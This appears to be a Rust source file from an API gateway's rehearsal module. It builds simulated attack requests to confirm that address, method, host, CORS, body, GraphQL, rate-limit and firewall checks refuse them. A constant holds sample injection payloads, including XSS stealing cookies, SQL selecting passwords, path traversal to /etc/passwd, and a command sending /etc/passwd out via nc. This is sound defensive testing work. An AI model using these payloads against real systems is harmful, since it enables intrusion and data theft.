//! Attacks that do not depend on who somebody is: on what anybody sends, how much, and what comes back.

use super::attacks::{Base, Builder};
use super::people::Candidate;
use super::sent::{ADDRESSES, add_query};
use super::{Expected, Passage};
use crate::judge::{Request, UpstreamAnswer, UsedUp};
use bytes::Bytes;
use http::StatusCode;
use portcullis_checks::authn::MethodConfig;
use portcullis_checks::rehearsal::{Attack, Credential, Stage as Circumstances};
use portcullis_checks::{Cidr, ModeConfig};
use portcullis_core::Mode;
use portcullis_core::overload::Priority;
use std::collections::BTreeMap;
use std::net::IpAddr;

/// A limit of at most so many is tried by really using it up.
const COUNTED_OUT: u32 = 20;
/// A bound of at most so many at once is tried by really holding them.
const HELD: u32 = 100;

/// What every set of rules for a firewall finds.
const INJECTIONS: [(&str, &str); 4] = [
    ("a script", "<script>alert(document.cookie)</script>"),
    ("SQL", "1' UNION SELECT password FROM users--"),
    ("a path", "../../../../etc/passwd"),
    ("a command", "; cat /etc/passwd | nc 192.0.2.1 9"),
];

/// An origin that no configuration lists.
const FOREIGN: &str = "https://rehearsal.invalid";
const ALLOW_ORIGIN: &str = "access-control-allow-origin";

impl Builder<'_> {
    /// Attacks that do not depend on who somebody is.
    pub(super) fn shared(&mut self, base: &Base<'_>) {
        self.addresses_refused(base);
        self.hosts_refused(base);
        self.methods_refused(base);
        self.unmatched(base);
        self.removed(base);
        self.origins(base);
        self.bodies(base);
        self.parameters(base);
        self.upgrades(base);
        self.operations(base);
        self.injections(base);
        self.limits(base);
        self.at_once(base);
        self.answers(base);
        if base.methods.is_empty() {
            self.impersonation(base);
        }
    }

    fn addresses_refused(&mut self, base: &Base<'_>) {
        let Some(addresses) = self.target.security.as_ref().and_then(|security| security.addresses.clone())
        else {
            return;
        };
        let denied = addresses.deny.iter().flatten().map(|Cidr(network)| network.addr());
        let outside =
            ADDRESSES.iter().filter_map(|address| address.parse::<IpAddr>().ok()).filter(|address| {
                addresses
                    .allow
                    .as_ref()
                    .is_some_and(|allowed| !allowed.iter().any(|Cidr(network)| network.contains(address)))
            });
        for address in denied.chain(outside.take(2)) {
            let mut request = self.again(base);
            request.client = address;
            self.attack(Attack::WrongAddress, &address.to_string(), request);
        }
        // What a client says of its own address is no proof of it.
        if let Some(address) = addresses.deny.iter().flatten().next() {
            let mut request = self.again(base);
            request.client = address.0.addr();
            let request = request.header("x-forwarded-for", &base.request.client.to_string());
            self.attack(Attack::WrongAddress, "with a forged X-Forwarded-For", request);
        }
    }

    pub(super) fn methods_refused(&mut self, base: &Base<'_>) {
        for method in ["DELETE", "PUT", "POST", "PATCH", "TRACE", "REHEARSE"] {
            let allowed = http::Method::from_bytes(method.as_bytes())
                .is_ok_and(|method| self.target.compiled.methods.contains(&method));
            if allowed {
                continue;
            }
            let mut request = self.with_method(base, method);
            method.clone_into(&mut request.method);
            self.attack(Attack::WrongMethod, method, request);
            if let Some(case) = self.cases.last_mut() {
                case.own_route_only = true;
            }
        }
    }

    /// The request with a credential for another method, where one is for a method.
    fn with_method(&self, base: &Base<'_>, method: &str) -> Request {
        let consumers = self.rehearsal.consumers();
        let stage = Circumstances {
            consumers: &consumers,
            url: self.url(&base.candidate.parameters),
            doubles: &self.rehearsal.doubles,
            now: self.rehearsal.judge.bench().time(),
            method,
            body: base.request.body.clone(),
        };
        let made: Result<Vec<_>, _> =
            base.methods.iter().map(|method| method.good(&base.candidate.person, &stage)).collect();
        match made {
            Ok(made) => {
                let credential = made.into_iter().fold(Credential::default(), Credential::and);
                self.request(&base.candidate.parameters, &credential, base.request.client)
            }
            Err(_) => base.request.clone(),
        }
    }

    fn bodies(&mut self, base: &Base<'_>) {
        let most = self.target.compiled.controls.max_body_bytes;
        if self.target.compiled.controls.inspection.requests.is_empty() && base.request.body.is_empty() {
            let announced = |length: u64| {
                let mut request = self.again(base);
                request.headers.push(("content-length".to_owned(), length.to_string()));
                request
            };
            let (largest, larger) = (announced(most), announced(most.saturating_add(1)));
            self.push(None, "the largest body", largest, Expected::Passed(Passage::default()));
            self.attack(Attack::Oversize, "one byte more", larger);
        } else if most < 4 * 1024 * 1024 {
            let mut request = self.again(base);
            request.headers.push(("content-length".to_owned(), most.saturating_add(1).to_string()));
            self.attack(Attack::Oversize, "one byte more", request);
        }
        let judged = self.target.compiled.controls.inspection.requests.iter();
        let declares = judged.filter(|guarded| guarded.mode == Mode::Enforce).any(|guarded| {
            ["inspect.openapi", "inspect.validation", "inspect.graphql"]
                .contains(&guarded.check.id().as_str())
        });
        if declares && !base.request.body.is_empty() {
            let again = || self.again(base);
            let mut typed = again().only_header("content-type", "application/x-rehearsal");
            let mut broken = again();
            broken.body = Bytes::from_static(b"{\"rehearsal\": ");
            let mut twice = again();
            twice.body = Bytes::from_static(b"{\"a\":1,\"a\":2}");
            let mut other = again();
            other.body = Bytes::from_static(b"[[\"rehearsal\"]]");
            typed.body = base.request.body.clone();
            self.attack(Attack::WrongType, "", typed);
            self.attack(Attack::Undeclared, "not JSON", broken);
            self.attack(Attack::Undeclared, "a member twice", twice);
            self.attack(Attack::Undeclared, "a list of lists", other);
        }
    }

    /// Operations that ask for more than the route allows.
    fn operations(&mut self, base: &Base<'_>) {
        let security = self.target.security.as_ref();
        let Some(graphql) = security.and_then(|security| security.graphql.clone()) else { return };
        if graphql.mode != ModeConfig::Enforce || base.request.body.is_empty() {
            return;
        }
        let many = |number: u32, one: &dyn Fn(u32) -> String| {
            (0..=number.min(5000)).map(one).collect::<Vec<_>>().join(" ")
        };
        let depth = usize::try_from(graphql.max_depth.get()).unwrap_or(usize::MAX).min(5000);
        let mut tried = vec![
            ("too deep", format!("{{ {}a{} }}", "a { ".repeat(depth), " }".repeat(depth))),
            (
                "too many fields at the root",
                format!("{{ {} }}", many(graphql.max_root_fields.get(), &|at| format!("f{at}"))),
            ),
            (
                "too many aliases",
                format!("{{ a {{ {} }} }}", many(graphql.max_aliases, &|at| format!("a{at}: b"))),
            ),
        ];
        if graphql.safelist.is_some() {
            tried.push(("not registered", "{ rehearsal }".to_owned()));
        }
        if !graphql.introspection {
            tried.push(("introspection", "{ __schema { types { name } } }".to_owned()));
        }
        if !graphql.subscriptions {
            tried.push(("a subscription", "subscription { a }".to_owned()));
        }
        for (how, query) in tried {
            let mut request = self.again(base);
            request.body = Bytes::from(format!("{{\"query\":\"{query}\"}}"));
            self.attack(Attack::Undeclared, how, request);
        }
    }

    fn limits(&mut self, base: &Base<'_>) {
        let enforced =
            self.target.compiled.controls.quotas.iter().any(|guarded| guarded.mode == Mode::Enforce);
        if !enforced {
            return;
        }
        let request = self.again(base);
        self.attack(Attack::OverLimit, "used up by others", request);
        self.last(|case| case.used_up = UsedUp::All);
        self.each_limit(&base.candidate, &base.methods, base.request.client, "");
        let least = self.least_limit();
        // A proof or a nonce is good for one request, so a credential that has one cannot be sent again.
        let again = !base.request.has("dpop");
        let least = least.map(|least| least.min(self.of_others(base, least)));
        if let Some(least) = least.filter(|least| *least <= COUNTED_OUT && again) {
            let request = self.again(base);
            self.attack(Attack::OverLimit, &format!("after {least}"), request.clone());
            self.last(|case| case.sent_before = least);
            let passed = Expected::Passed(Passage::default());
            self.push(None, "the last one within the limit", request, passed);
            self.last(|case| case.sent_before = least - 1);
        }
    }

    /// Each of several limits alone is used up, so that none hides behind another one.
    pub(super) fn each_limit(
        &mut self,
        candidate: &Candidate,
        methods: &[&MethodConfig],
        client: IpAddr,
        whose: &str,
    ) {
        let judge = &self.rehearsal.judge;
        let request = || self.fresh(candidate, methods, client).0;
        judge.forget();
        let passes = judge.decide(&request()).is_forwarded();
        let several = if passes { judge.limits_charged() } else { 0 };
        let mut found = Vec::new();
        for limit in 0..several {
            judge.forget();
            judge.use_up_limits(UsedUp::Only(limit));
            let refused = !judge.decide(&request()).is_forwarded();
            judge.use_up_limits(UsedUp::Nothing);
            // One that only observes refuses nobody.
            if refused && several > 1 {
                found.push((limit, request()));
            }
        }
        for (limit, request) in found {
            let how = format!("limit {} used up by others{whose}", limit + 1);
            self.attack(Attack::OverLimit, &how, request);
            self.last(|case| case.used_up = UsedUp::Only(limit));
        }
    }

    /// Parameters that are not as the document declares them.
    fn parameters(&mut self, base: &Base<'_>) {
        let Some(operation) = &self.target.operation else { return };
        let mut tried = Vec::new();
        let mut more = self.again(base);
        add_query(&mut more, "rehearsal-undeclared", "1");
        tried.push(("a parameter more".to_owned(), more));
        let wrong = "~rehearsal~";
        let others: BTreeMap<String, String> =
            operation.parameters.iter().map(|(name, _)| (name.clone(), wrong.to_owned())).collect();
        for (name, value) in &operation.parameters {
            let mut request = self.again(base);
            if !base.candidate.parameters.contains_key(name) && value.len() > 1 || others.len() == 1 {
                let (path, query) = request.target.split_once('?').unwrap_or((&request.target, ""));
                let path = path.replacen(&format!("/{value}"), &format!("/{wrong}"), 1);
                request.target = if query.is_empty() { path } else { format!("{path}?{query}") };
                tried.push((format!("another {name}"), request));
            }
        }
        for (name, _) in &operation.query {
            for (how, value) in [("without", None), ("another", Some(wrong))] {
                let mut request = self.again(base);
                without_query(&mut request, name);
                if let Some(value) = value {
                    add_query(&mut request, name, value);
                }
                tried.push((format!("{how} {name}"), request));
            }
        }
        for (how, request) in tried {
            // A document may allow it, which only the check knows.
            self.rehearsal.judge.forget();
            let verdict = self.rehearsal.judge.decide(&request);
            if verdict.refusal().is_some_and(|refusal| refusal.check == Some("inspect.openapi")) {
                self.attack(Attack::Undeclared, &how, request);
            }
        }
    }

    /// Requests that go on as another protocol.
    fn upgrades(&mut self, base: &Base<'_>) {
        if self.target.method != "GET" || !base.request.body.is_empty() {
            return;
        }
        for protocol in &self.target.config.upgrade {
            let request = self
                .again(base)
                .header("connection", "upgrade")
                .header("upgrade", &protocol.value)
                .header("sec-websocket-version", "13")
                .header("sec-websocket-key", "dGhlIHNhbXBsZSBub25jZQ==");
            self.rehearsal.judge.forget();
            if self.rehearsal.judge.decide(&request).is_forwarded() {
                let how = format!("to {}", protocol.value);
                self.push(None, &how, request, Expected::Passed(Passage::default()));
            }
        }
    }

    /// Requests of others that count as one's own, where a limit is not by consumer.
    pub(super) fn counted_together(&mut self, base: &Base<'_>, everybody: &[Candidate]) {
        let Some(least) = self.least_limit().filter(|least| *least <= COUNTED_OUT) else { return };
        let judge = &self.rehearsal.judge;
        let of = |candidate: &Candidate| self.fresh(candidate, &base.methods, base.request.client).0;
        let few: Vec<&Candidate> = everybody.iter().take(4).collect();
        let pairs = few.iter().flat_map(|first| few.iter().map(move |last| (*first, *last)));
        let found =
            pairs.filter(|(first, last)| first.person.name != last.person.name).find_map(|(first, last)| {
                let (before, request) = (of(first), of(last));
                if before.has("dpop") {
                    return None;
                }
                judge.forget();
                let passed = (0..least).all(|_| judge.decide(&before).is_forwarded());
                let refused = passed && !judge.decide(&request).is_forwarded();
                judge.forget();
                (refused && judge.decide(&request).is_forwarded())
                    .then(|| (first.person.name.clone(), before, request))
            });
        judge.forget();
        if let Some((name, before, request)) = found {
            self.attack(Attack::OverLimit, &format!("after {least} by {name}"), request);
            self.last(|case| {
                case.sent_before = least;
                case.before = Some(before);
            });
        }
    }

    /// How many requests in a row the narrowest of the route's limits lets pass.
    fn least_limit(&self) -> Option<u32> {
        let limits = self.target.security.as_ref().and_then(|security| security.rate_limiting.as_ref());
        let enforced =
            limits.into_iter().flat_map(|limits| &limits.0).filter(|limit| limit.mode == ModeConfig::Enforce);
        enforced.map(|limit| limit.burst.as_ref().map_or(limit.max_requests, |burst| burst.value).get()).min()
    }

    /// Who is given up while the gateway is too slow, and who is not yet.
    pub(super) fn while_slow(&mut self, base: &Base<'_>, everybody: &[Candidate]) {
        let shedding = self.rehearsal.config.overload.as_ref();
        if shedding.is_none_or(|overload| overload.mode != ModeConfig::Enforce) {
            return;
        }
        let passed = || Expected::Passed(Passage::default());
        let one_of_each: BTreeMap<Priority, &Candidate> =
            everybody.iter().map(|candidate| (self.priority(&candidate.person.name), candidate)).collect();
        for (priority, candidate) in one_of_each {
            let (how, request) = (format!("by {}", candidate.person.name), || {
                self.fresh(candidate, &base.methods, base.request.client).0
            });
            let (first, second) = (request(), request());
            // A priority is given up when those below it are, and a part of the highest one never.
            let (passes, refused) = match priority {
                Priority::Low => (None, Some(1)),
                Priority::Normal => (Some(1), Some(2)),
                Priority::High => (Some(2), None),
            };
            if let Some(given_up) = passes {
                self.push(None, &format!("{how} while others are given up"), first, passed());
                self.last(|case| case.given_up = given_up);
            }
            if let Some(given_up) = refused {
                self.attack(Attack::Overload, &how, second);
                self.last(|case| case.given_up = given_up);
            }
        }
    }

    fn priority(&self, consumer: &str) -> Priority {
        let config = &self.rehearsal.config;
        let known = config.consumers.iter().find(|known| known.name.value == consumer);
        let plan = known.and_then(|known| known.plan.as_ref()).and_then(|plan| config.plans.get(&plan.value));
        plan.and_then(|plan| plan.priority.as_ref()).map_or(Priority::default(), |word| word.value.into())
    }

    /// A request without one of the headers and parameters that choose the route.
    pub(super) fn unmatched(&mut self, base: &Base<'_>) {
        let conditions = &self.target.compiled.conditions;
        for (name, _) in &conditions.headers {
            let mut request = self.again(base);
            request.headers.retain(|(there, _)| !there.eq_ignore_ascii_case(name.as_str()));
            self.attack(Attack::Unmatched, &format!("without {name}"), request);
            self.last(|case| case.own_route_only = true);
        }
        for (name, _) in &conditions.query {
            let mut request = self.again(base);
            without_query(&mut request, name);
            self.attack(Attack::Unmatched, &format!("without {name}"), request);
            self.last(|case| case.own_route_only = true);
        }
    }

    /// What the route takes out of requests.
    fn removed(&mut self, base: &Base<'_>) {
        let Some(changes) = self.target.config.request_headers.clone() else { return };
        for name in &changes.remove {
            let name = name.value.replace('*', "rehearsal");
            if changes.set.contains_key(&name) || changes.add.contains_key(&name) {
                continue;
            }
            let request = self.again(base).header(&name, "rehearsal");
            let expected = Expected::Without(name.clone(), "rehearsal".to_owned());
            self.push(Some(Attack::Impersonation), &name, request, expected);
        }
    }

    /// Changes the last case.
    fn last(&mut self, change: impl FnOnce(&mut super::Case)) {
        if let Some(case) = self.cases.last_mut() {
            change(case);
        }
    }

    /// A host that the route does not name.
    pub(super) fn hosts_refused(&mut self, base: &Base<'_>) {
        if self.target.compiled.hosts.is_empty() {
            return;
        }
        let request = self.again(base).only_header("host", "rehearsal.invalid");
        self.attack(Attack::WrongHost, "", request);
        self.last(|case| case.own_route_only = true);
    }

    /// Which pages may read answers, and what they may send.
    fn origins(&mut self, base: &Base<'_>) {
        let Some(cors) = self.target.security.as_ref().and_then(|security| security.cors.clone()) else {
            return;
        };
        let listed = cors.origins.value.0.first().cloned().unwrap_or_default();
        let every = listed == "*";
        let origin = if every { FOREIGN.to_owned() } else { listed.replace("//*.", "//rehearsal.") };
        let origin = origin.replace(":*", ":4711");
        let names = if every { "*".to_owned() } else { origin.clone() };
        let field = |name: &str, value: &str| (name.to_owned(), value.to_owned());
        let mut said = vec![field(ALLOW_ORIGIN, &names)];
        let mut unsaid = Vec::new();
        let credentials = "access-control-allow-credentials";
        match cors.credentials {
            true => said.push(field(credentials, "true")),
            false => unsaid.push(credentials.to_owned()),
        }
        let join = |list: &[portcullis_config::Spanned<String>]| {
            list.iter().map(|name| name.value.clone()).collect::<Vec<_>>().join(", ")
        };
        // A page reads an answer.
        let own_origin = base.request.has("origin");
        if !own_origin {
            let mut passage =
                Passage { answer: said.clone(), answer_without: unsaid.clone(), ..Passage::default() };
            if let Some(exposed) = cors.exposed_headers.first() {
                let name = exposed.value.to_ascii_lowercase();
                passage.answer_has.push(field("access-control-expose-headers", &name));
            }
            let request = self.again(base).header("origin", &origin);
            self.push(None, "from a page that may read", request, Expected::Passed(passage));
            if !every {
                let foreign = self.again(base).header("origin", FOREIGN);
                let expected = Expected::Unreadable(vec![ALLOW_ORIGIN.to_owned()]);
                self.push(Some(Attack::ForeignOrigin), "", foreign, expected);
                let longer = self.again(base).header("origin", &format!("{origin}.rehearsal.invalid"));
                let expected = Expected::Unreadable(vec![ALLOW_ORIGIN.to_owned()]);
                self.push(Some(Attack::ForeignOrigin), "with a longer name", longer, expected);
            }
        }
        // A page asks before it sends.
        let methods = &cors.methods;
        let allows = |method: &str| {
            http::Method::from_bytes(method.as_bytes())
                .is_ok_and(|method| self.target.compiled.methods.contains(&method))
        };
        let wanted = methods.iter().map(|method| method.value.as_str()).find(|method| allows(method));
        let wanted = wanted.unwrap_or(&self.target.method).to_owned();
        let list = if methods.is_empty() { wanted.clone() } else { join(methods) };
        said.push(field("access-control-allow-methods", &list));
        let asked = "x-rehearsal";
        let listed_headers = join(&cors.headers).to_ascii_lowercase();
        let headers = if listed_headers.is_empty() || listed_headers == "*" {
            asked.to_owned()
        } else {
            listed_headers
        };
        said.push(field("access-control-allow-headers", &headers));
        match &cors.max_age {
            Some(age) => said.push(field("access-control-max-age", &age.value.as_secs().to_string())),
            None => unsaid.push("access-control-max-age".to_owned()),
        }
        let private = "access-control-allow-private-network";
        match cors.private_network {
            true => said.push(field(private, "true")),
            false => unsaid.push(private.to_owned()),
        }
        let preflight = |origin: &str, method: &str| {
            let mut request =
                self.request(&base.candidate.parameters, &Credential::default(), base.request.client);
            "OPTIONS".clone_into(&mut request.method);
            request.body = Bytes::new();
            request.headers.retain(|(name, _)| name != "content-type");
            request
                .header("origin", origin)
                .header("access-control-request-method", method)
                .header("access-control-request-headers", asked)
                .header("access-control-request-private-network", "true")
        };
        let (good, foreign) = (preflight(&origin, &wanted), preflight(FOREIGN, &wanted));
        let other = ["PUT", "DELETE", "PATCH", "POST", "GET"].into_iter().find(|method| {
            allows(method) && !methods.is_empty() && !methods.iter().any(|listed| listed.value == *method)
        });
        let other = other.map(|method| preflight(&origin, method));
        let answered = |said: Vec<_>, unsaid| Expected::Answered { code: "preflight", said, unsaid };
        self.push(None, "a page asks whether it may", good, answered(said, unsaid));
        if let Some(other) = other {
            let expected = Expected::Unreadable(vec!["access-control-allow-methods".to_owned()]);
            self.push(Some(Attack::ForeignOrigin), "asks for another method", other, expected);
        }
        if !every {
            let expected = Expected::Unreadable(vec![ALLOW_ORIGIN.to_owned()]);
            self.push(Some(Attack::ForeignOrigin), "asks whether it may", foreign, expected);
        }
    }

    /// How many requests pass in a row, up to `most`, where a plan, a consumer or a quota may allow fewer than the limits of the
    /// route; else `most`.
    fn of_others(&self, base: &Base<'_>, most: u32) -> u32 {
        let consumers = &self.rehearsal.config.consumers;
        let consumer = consumers.iter().find(|consumer| consumer.name.value == base.candidate.person.name);
        let own = consumer.is_some_and(|consumer| {
            consumer.plan.is_some() || consumer.rate_limiting.is_some() || consumer.quota.is_some()
        });
        let quota = self.target.security.as_ref().is_some_and(|security| security.quota.is_some());
        if most > COUNTED_OUT || !(own || quota) {
            return most;
        }
        let (request, judge) = (self.again(base), &self.rehearsal.judge);
        judge.forget();
        let passed = (0..most).take_while(|_| judge.decide(&request).is_forwarded()).count();
        judge.forget();
        u32::try_from(passed).unwrap_or(most).max(1)
    }

    /// What a firewall is there for.
    fn injections(&mut self, base: &Base<'_>) {
        let waf = self.target.security.as_ref().and_then(|security| security.waf.as_ref());
        if waf.is_none_or(|waf| waf.mode != ModeConfig::Enforce) {
            return;
        }
        for (what, text) in INJECTIONS {
            let mut in_query = self.again(base);
            add_query(&mut in_query, "rehearsal", text);
            let in_header =
                self.again(base).only_header("referer", &format!("https://rehearsal.invalid/?q={text}"));
            let mut tried = vec![("in the query", in_query), ("in a header", in_header)];
            if let Some(body) = self.injected_body(base, text) {
                tried.push(("in the body", body));
            }
            for (place, request) in tried {
                // What rules of a file find, and what is excluded, only the rules know.
                self.rehearsal.judge.forget();
                let verdict = self.rehearsal.judge.decide(&request);
                if verdict.refusal().is_some_and(|refusal| refusal.check == Some("inspect.waf")) {
                    self.attack(Attack::Injection, &format!("{what} {place}"), request);
                }
            }
        }
    }

    /// The body with a text in its first member.
    fn injected_body(&self, base: &Base<'_>, text: &str) -> Option<Request> {
        let mut request = self.again(base);
        let mut body: serde_json::Value = serde_json::from_slice(&request.body).ok()?;
        let first = body.as_object_mut()?.values_mut().find(|value| value.is_string())?;
        *first = serde_json::Value::String(text.to_owned());
        request.body = Bytes::from(body.to_string());
        Some(request)
    }

    /// One more at once than there may be, for each bound.
    fn at_once(&mut self, base: &Base<'_>) {
        let bounds = self.target.security.as_ref().and_then(|security| security.concurrency.clone());
        let enforced = bounds.iter().flat_map(|bounds| &bounds.0);
        let mut enforced: Vec<_> = enforced.filter(|bound| bound.mode == ModeConfig::Enforce).collect();
        enforced.sort_by_key(|bound| bound.max_requests);
        // A proof or a nonce is good for one request.
        if base.request.has("dpop") {
            return;
        }
        let anywhere = self.target.security.as_ref().is_none_or(|security| security.addresses.is_none());
        let mut last = 0;
        for bound in enforced {
            let most = bound.max_requests.get();
            if most > HELD || most == last {
                continue;
            }
            last = most;
            // Of a bound that is not by address, those count as well that come from elsewhere.
            let elsewhere = anywhere && !bound.by.describe().contains("address");
            let request = self.again(base);
            let passed = Expected::Passed(Passage::default());
            self.attack(Attack::TooManyAtOnce, &format!("beside {most}"), request.clone());
            self.last(|case| {
                (case.held, case.held_elsewhere, case.used_up) = (most, elsewhere, UsedUp::Never)
            });
            self.push(None, "the last one that may go on at once", request, passed);
            self.last(|case| {
                (case.held, case.held_elsewhere, case.used_up) = (most - 1, elsewhere, UsedUp::Never);
            });
        }
    }

    /// What the upstream answers, where that is judged.
    fn answers(&mut self, base: &Base<'_>) {
        let judged = self.target.compiled.controls.inspection.answers.iter();
        if !judged.clone().any(|guarded| guarded.mode == Mode::Enforce) {
            return;
        }
        let answer = |media_type: &str, body: &'static [u8]| UpstreamAnswer {
            status: StatusCode::OK,
            media_type: media_type.to_owned(),
            body: Bytes::from_static(body),
        };
        for (how, answer) in [
            ("not JSON", answer("application/json", b"{\"rehearsal\": ")),
            ("another media type", answer("application/x-rehearsal", b"rehearsal")),
            ("an error of a database", answer("text/plain", b"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version")),
            ("a stack trace", answer("text/plain", b"Traceback (most recent call last):\n  File \"/srv/app.py\", line 3, in <module>\n")),
        ] {
            let request = self.again(base);
            self.rehearsal.judge.forget();
            let verdict = self.rehearsal.judge.decide_answered(&request, &answer);
            // An operation may declare nothing of its answers.
            if !verdict.is_forwarded() {
                self.attack(Attack::WrongAnswer, how, self.again(base));
                self.last(|case| case.answer = Some(answer));
            }
        }
    }
}

/// Takes a parameter out of the query.
fn without_query(request: &mut Request, name: &str) {
    let Some((path, query)) = request.target.split_once('?') else { return };
    let rest: Vec<_> = query.split('&').filter(|part| part.split('=').next() != Some(name)).collect();
    request.target = if rest.is_empty() { path.to_owned() } else { format!("{path}?{}", rest.join("&")) };
}
